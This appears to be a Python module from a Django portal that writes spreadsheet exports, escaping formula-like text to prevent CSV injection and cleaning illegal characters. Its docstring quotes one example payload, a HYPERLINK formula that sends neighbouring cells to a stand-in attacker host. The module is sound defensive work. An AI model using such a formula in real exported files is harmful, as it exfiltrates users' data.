"""The one cell writer for every spreadsheet the portal exports (overdue board, accountability).

What staff typed goes into a cell as text and stays text:
- a value starting with = + - @ (or a tab or CR) would be read by Excel or LibreOffice as a
  formula, e.g. =HYPERLINK("https://evil.example/?"&A2, "点击") sends neighbouring cells away.
  As OWASP's "CSV Injection" advice says, such a value gets a leading apostrophe, and the cell is
  written as a string (never a formula), so it survives a "save as CSV" too;
- characters an .xlsx file cannot hold (C0 controls other than tab, LF and CR, e.g. a vertical
  tab) make openpyxl raise IllegalCharacterError: each becomes a space;
- times are real Excel datetimes in the portal's time zone (Asia/Shanghai): Excel has no time
  zones, so an aware datetime is turned into naive local time with a date-time number format;
- numbers (int, float, Decimal) and booleans stay numbers and booleans.
"""

import datetime
import decimal
from io import BytesIO

from django.http import HttpResponse
from django.utils import timezone
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"
DATE_FORMAT = "yyyy-mm-dd"
CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def text(value) -> str:
    """A string safe as a cell's text: illegal characters replaced by spaces, a formula prefix
    neutralised with a leading apostrophe. Any value is turned into str first (lazy translations too)."""
    value = ILLEGAL_CHARACTERS_RE.sub(" ", str(value))
    if value.startswith(FORMULA_PREFIXES):
        value = "'" + value
    return value


def append(sheet, values) -> None:
    """Append one row to an openpyxl worksheet, each value through the rules above.

    values: an iterable of None, bool, int, float, Decimal, datetime (aware: shown in local time;
    naive: taken as local time already), date, or anything else (written as text)."""
    values = list(values)
    sheet.append([_plain(value) for value in values])
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        cell = sheet.cell(row=row, column=column)
        if isinstance(value, datetime.datetime):
            cell.number_format = DATETIME_FORMAT
        elif isinstance(value, datetime.date):
            cell.number_format = DATE_FORMAT
        elif cell.value is not None and not isinstance(value, (bool, int, float, decimal.Decimal)):
            cell.data_type = "s"  # text, whatever it looks like: never a formula


def _plain(value):
    if value is None or isinstance(value, (bool, int, float, decimal.Decimal)):
        return value
    if isinstance(value, datetime.datetime):
        if timezone.is_aware(value):
            value = timezone.make_naive(value, timezone.get_default_timezone())
        return value.replace(microsecond=0)
    if isinstance(value, datetime.date):
        return value
    return text(value)


def response(book, filename: str) -> HttpResponse:
    """The workbook as a download named `filename` (ASCII, made by the caller, not typed by anyone)."""
    buffer = BytesIO()
    book.save(buffer)
    answer = HttpResponse(buffer.getvalue(), content_type=CONTENT_TYPE)
    answer["Content-Disposition"] = f'attachment; filename="{filename}"'
    return answer
